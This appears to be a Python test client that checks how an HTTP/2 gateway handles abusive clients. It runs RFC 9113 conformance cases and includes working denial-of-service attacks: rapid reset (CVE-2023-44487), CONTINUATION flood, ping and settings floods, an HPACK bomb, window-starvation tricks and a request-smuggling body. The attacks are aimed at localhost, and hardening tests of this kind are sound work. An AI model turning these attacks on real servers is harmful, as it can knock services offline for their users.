"""A raw HTTP/2 client for the gateway's attack tests: writes frames as an abusive client
would (hyperframe and hpack, the `h2` package's own layers, so nothing checks what is sent),
then reads what the gateway answers until it closes or goes quiet.

    h2attack.py PORT ATTACK [ARG]

Prints one JSON object: `goaway` (the error code of the GOAWAY received, or null), `closed`
(the gateway closed the connection), `resets` ({stream: error code}), `statuses` ({stream:
:status}), `data` ({stream: bytes}), `ended` (streams that ended), `seconds` (how long the
answer took).
"""
import json
import socket
import struct
import sys
import time

from hpack import Encoder, Decoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Client:
    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.buffer = b""
        self.result = {"goaway": None, "closed": False, "resets": {}, "statuses": {}, "data": {}, "ended": [], "seconds": 0, "fields": {}}
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def block(self, path, method="GET", extra=()):
        return self.encoder.encode([(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)] + list(extra))

    def headers(self, stream, path, end_stream=True, method="GET", extra=()):
        frame = HeadersFrame(stream, data=self.block(path, method, extra))
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def read(self, seconds, until=None):
        """Frames until the connection closes, `until(result)` holds, or `seconds` pass."""
        start = time.time()
        self.sock.settimeout(0.2)
        while time.time() - start < seconds:
            if until and until(self.result):
                break
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.result["closed"] = True
                break
            self.buffer += chunk
            self.parse()
        self.result["seconds"] = round(time.time() - start, 3)
        return self.result

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self.frame(frame)

    def frame(self, frame):
        r = self.result
        sid = str(frame.stream_id)
        if isinstance(frame, GoAwayFrame):
            if r["goaway"] is None:  # the first one says why
                r["goaway"] = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            r["resets"][sid] = frame.error_code
        elif isinstance(frame, HeadersFrame):
            for name, value in self.decoder.decode(frame.data):
                r["fields"].setdefault(sid, {})[name.decode() if isinstance(name, bytes) else name] = value.decode() if isinstance(value, bytes) else value
                if name in (b":status", ":status"):
                    status = int(value)
                    if status >= 200:
                        r["statuses"][sid] = status
            if "END_STREAM" in frame.flags:
                r["ended"].append(frame.stream_id)
        elif isinstance(frame, DataFrame):
            r["data"][sid] = r["data"].get(sid, 0) + len(frame.data)
            if "END_STREAM" in frame.flags:
                r["ended"].append(frame.stream_id)
        elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
            r["pong"] = frame.opaque_data.decode()
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            pong = PingFrame(0, opaque_data=frame.opaque_data)
            pong.flags.add("ACK")
            self.send(pong.serialize())
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            r["settings"] = True
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.send(ack.serialize())


def raw(type, flags, stream, payload=b""):
    """A frame as bytes, unchecked (hyperframe refuses some of what these tests send)."""
    return struct.pack(">I", len(payload))[1:] + bytes([type, flags]) + struct.pack(">I", stream) + payload


def conformance(port):
    """RFC 9113 cases, each on a connection of its own: what the gateway answered."""
    seen = {}

    def case(name, until=goaway_or_close, seconds=3, settings=None, send=None):
        c = Client(port, settings=settings)
        send(c)
        seen[name] = c.read(seconds, until)

    ended = lambda sid: (lambda r: sid in r["ended"] or str(sid) in r["resets"] or r["goaway"] is not None)
    case("data-on-idle-stream", send=lambda c: c.send(DataFrame(1, data=b"x", flags=["END_STREAM"]).serialize()))
    case("window-update-zero", send=lambda c: c.send(raw(8, 0, 0, struct.pack(">I", 0))))
    case("window-overflow", send=lambda c: c.send(WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 2))
    case("oversized-frame", send=lambda c: c.send(raw(0, 0, 1, b"x" * 16385)))
    case("bad-initial-window", send=lambda c: c.send(raw(4, 0, 0, struct.pack(">HI", 4, 2**31))))
    case("bad-max-frame-size", send=lambda c: c.send(raw(4, 0, 0, struct.pack(">HI", 5, 100))))
    case("settings-ack-with-payload", send=lambda c: c.send(raw(4, 1, 0, b"\0" * 6)))
    case("headers-on-stream-zero", send=lambda c: c.send(raw(1, 5, 0, c.block("/"))))
    case("even-stream", send=lambda c: c.send(raw(1, 5, 2, c.block("/"))))
    case("push-promise", send=lambda c: c.send(raw(5, 4, 1, struct.pack(">I", 2) + c.block("/"))))
    case("continuation-interleaved", send=lambda c: c.send(raw(1, 1, 1, c.block("/")) + PingFrame(0).serialize()))
    case("continuation-without-headers", send=lambda c: c.send(raw(9, 4, 1, c.block("/"))))
    case("bad-padding", send=lambda c: c.send(raw(1, 5 | 8, 1, bytes([200]) + c.block("/"))))
    case("pseudo-field-in-trailers", until=ended(1), send=lambda c: c.send(
        c.headers(1, "/upload", end_stream=False, method="POST")
        + raw(1, 5, 1, c.encoder.encode([(":path", "/x")]))))
    case("trailers-without-end-stream", until=ended(1), send=lambda c: c.send(
        c.headers(1, "/upload", end_stream=False, method="POST")
        + raw(1, 4, 1, c.encoder.encode([("x-trailer", "1")]))))
    def big_head(c):
        block = c.block("/big", extra=[("x-big", "a" * 20000)])
        c.send(raw(1, 1, 1, block[:16000]) + raw(9, 4, 1, block[16000:]) + c.headers(3, "/after"))
    case("head-past-the-limit", until=ended(3), send=big_head)
    case("stream-error-then-request", until=ended(5), send=lambda c: c.send(raw(2, 0, 3, b"\0\0\0") + c.headers(5, "/after")))
    case("lower-stream-id", send=lambda c: c.send(c.headers(5, "/delay/300") + c.headers(3, "/")))
    case("headers-after-client-reset", send=lambda c: c.send(
        c.headers(1, "/upload", end_stream=False, method="POST") + RstStreamFrame(1, error_code=8).serialize()
        + c.headers(1, "/again")))
    case("data-after-end-stream", until=ended(1), send=lambda c: c.send(
        c.headers(1, "/delay/300") + DataFrame(1, data=b"x").serialize()))
    case("priority-on-itself", until=ended(3), send=lambda c: c.send(raw(2, 0, 3, struct.pack(">IB", 3, 16))))
    case("ping-echo", until=lambda r: "pong" in r, send=lambda c: c.send(PingFrame(0, opaque_data=b"abcdefgh").serialize()))
    # Padding on both frames of a request, a priority block on its HEADERS: served.
    case("padded-request", until=ended(1), send=lambda c: c.send(
        raw(1, 4 | 8 | 0x20, 1, bytes([7]) + struct.pack(">IB", 0, 15)
            + c.block("/upload", "POST", [("content-length", "5")]) + b"\0" * 7)
        + raw(0, 1 | 8, 1, bytes([3]) + b"hello" + b"\0" * 3)))
    c = socket.create_connection(("127.0.0.1", port), timeout=5)
    c.sendall(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + SettingsFrame(0).serialize())
    answer = b""
    try:
        while True:
            chunk = c.recv(4096)
            if not chunk:
                break
            answer += chunk
    except OSError:
        pass
    first = answer.split(b"\r\n")[0].decode(errors="replace")
    code = None
    while len(answer) >= 9 and not answer.startswith(b"HTTP/"):
        length, kind = int.from_bytes(answer[:3], "big"), answer[3]
        if kind == 7:
            code = struct.unpack(">I", answer[13:17])[0]
        answer = answer[9 + length:]
    seen["bad-preface"] = {"goaway": code, "closed": True, "resets": {}, "statuses": {}, "data": {}, "ended": [], "seconds": 0, "fields": {"0": {"answer": first}}}

    # A client that gives its window in small steps: the answer waits for them and arrives whole.
    c = Client(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1000})
    c.send(c.headers(1, "/bytes/100000"))
    start = time.time()
    c.sock.settimeout(0.2)
    while time.time() - start < 10 and 1 not in c.result["ended"]:
        try:
            chunk = c.sock.recv(65536)
        except socket.timeout:
            continue
        if not chunk:
            break
        c.buffer += chunk
        before = c.result["data"].get("1", 0)
        c.parse()
        got = c.result["data"].get("1", 0) - before
        if got:
            c.send(WindowUpdateFrame(1, window_increment=got).serialize() + WindowUpdateFrame(0, window_increment=got).serialize())
    seen["small-windows"] = c.result

    # A window SETTINGS shrinks below zero (RFC 9113 6.9.2): nothing is sent until updates
    # bring it above zero again, then the rest of the answer.
    c = Client(port)
    c.send(c.headers(1, "/bytes/100000"))
    c.read(5, lambda r: r["data"].get("1", 0) >= 65535)
    c.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
           + WindowUpdateFrame(1, window_increment=65535).serialize())
    before = c.read(1, lambda r: False)["data"].get("1", 0)
    c.send(WindowUpdateFrame(1, window_increment=100000).serialize() + WindowUpdateFrame(0, window_increment=100000).serialize())
    c.read(5, lambda r: 1 in r["ended"] or r["goaway"] is not None)
    c.result["fields"] = {"1": {"before": str(before)}}
    seen["shrunk-window"] = c.result
    print(json.dumps(seen))


def goaway_or_close(r):
    return r["goaway"] is not None


def main():
    port, attack = int(sys.argv[1]), sys.argv[2]
    arg = sys.argv[3] if len(sys.argv) > 3 else None
    c = Client(port)
    if attack == "rapid-reset":
        # CVE-2023-44487: open a stream and cancel it at once, again and again.
        out = b""
        for i in range(1000):
            sid = 1 + 2 * i
            out += c.headers(sid, "/slow/" + str(i)) + RstStreamFrame(sid, error_code=8).serialize()
        c.send(out)
        print(json.dumps(c.read(10, goaway_or_close)))
    elif attack == "continuation-flood":
        # CVE-2024-27316: a header block that never ends, one CONTINUATION after another.
        start = HeadersFrame(1, data=c.block("/"))
        start.flags.add("END_STREAM")
        out = start.serialize()
        for i in range(20000):
            out += ContinuationFrame(1, data=c.encoder.encode([("x-filler", "a" * 20)])).serialize()
            if len(out) > 1 << 16:
                if not c.send(out):
                    break
                out = b""
        c.send(out)
        print(json.dumps(c.read(10, goaway_or_close)))
    elif attack in ("settings-flood", "ping-flood"):
        frame = SettingsFrame(0) if attack == "settings-flood" else PingFrame(0, opaque_data=b"12345678")
        c.send(frame.serialize() * 5000)
        print(json.dumps(c.read(10, goaway_or_close)))
    elif attack == "empty-data-flood":
        # A stream kept open with DATA frames that carry nothing: work for no progress.
        c.send(c.headers(1, "/upload", end_stream=False, method="POST"))
        c.send(DataFrame(1, data=b"").serialize() * 10000)
        print(json.dumps(c.read(10, goaway_or_close)))
    elif attack == "hpack-bomb":
        # One large field in the dynamic table, then a block that repeats it by index (a few
        # bytes each): kilobytes on the wire that decode to megabytes.
        big = ("x-bomb", "b" * 4000)
        first = c.headers(1, "/", extra=[big])
        bomb = HeadersFrame(3, data=c.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")] + [big] * 4000))
        bomb.flags.add("END_HEADERS")
        bomb.flags.add("END_STREAM")
        c.send(first + bomb.serialize())
        print(json.dumps(c.read(10, goaway_or_close)))
    elif attack == "zero-window":
        # The client grants no window and asks for a large answer: the gateway must not hold
        # it forever (nor more than its bounds of it).
        c = Client(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        c.send(c.headers(1, arg or "/bytes/10000000"))
        print(json.dumps(c.read(30, lambda r: r["goaway"] is not None or "1" in r["resets"])))
    elif attack == "never-ending":
        # Streams whose requests never end: each must be ended by the gateway's timeouts.
        for i in range(10):
            c.send(c.headers(1 + 2 * i, "/upload", end_stream=False, method="POST", extra=[("content-length", "100")]))
        print(json.dumps(c.read(30, lambda r: len(r["resets"]) >= 10 or r["goaway"] is not None)))
    elif attack in ("too-many-streams", "too-many-streams-early"):
        # More streams at once than SETTINGS_MAX_CONCURRENT_STREAMS allows: once the settings
        # are acknowledged (a protocol error), or before (the client could not know them yet).
        n = int(arg or "150")
        if attack == "too-many-streams":
            c.read(5, lambda r: r.get("settings"))
        c.send(b"".join(c.headers(1 + 2 * i, "/delay/500") for i in range(n)))
        print(json.dumps(c.read(15, lambda r: len(r["resets"]) + len(r["ended"]) >= n)))
    elif attack == "many-streams":
        # Not an attack: n streams at once, all answered.
        n = int(arg or "50")
        c.send(b"".join(c.headers(1 + 2 * i, "/echo/" + str(i)) for i in range(n)))
        print(json.dumps(c.read(15, lambda r: len(r["ended"]) >= n)))
    elif attack == "length-mismatch":
        # A body longer than its content-length, the rest shaped as a second request: the
        # stream must be refused, never the tail served as a request of its own.
        c.send(c.headers(1, "/upload", end_stream=False, method="POST", extra=[("content-length", "5")]))
        c.send(DataFrame(1, data=b"helloGET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n", flags=["END_STREAM"]).serialize())
        c.send(c.headers(3, "/after"))
        print(json.dumps(c.read(5, lambda r: 3 in r["ended"] or r["goaway"] is not None)))
    elif attack == "grpc-deadline":
        # Not an attack: a gRPC call with its own deadline (grpc-timeout), which the gateway
        # must keep even when its own request timeout is longer.
        c.send(c.headers(1, arg or "/demo.Slow/Wait", end_stream=False, method="POST",
                         extra=[("content-type", "application/grpc"), ("te", "trailers"), ("grpc-timeout", "500m")]))
        c.send(DataFrame(1, data=b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]).serialize())
        print(json.dumps(c.read(15, lambda r: 1 in r["ended"] or "1" in r["resets"])))
    elif attack == "no-reads":
        # Requests, windows wide open, and nothing read: the answers pile up unless the
        # gateway stops taking requests while its socket is full.
        c = Client(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        c.send(WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535).serialize())
        n = int(arg or "3000")
        c.sock.settimeout(3)
        for i in range(n):
            if not c.send(c.headers(1 + 2 * i, "/bytes/20000")):
                break
            if i % 50 == 49:
                time.sleep(0.01)
        time.sleep(2)
        print(json.dumps(c.result))
    elif attack == "conformance":
        conformance(port)
    else:
        sys.exit("unknown attack " + attack)


main()
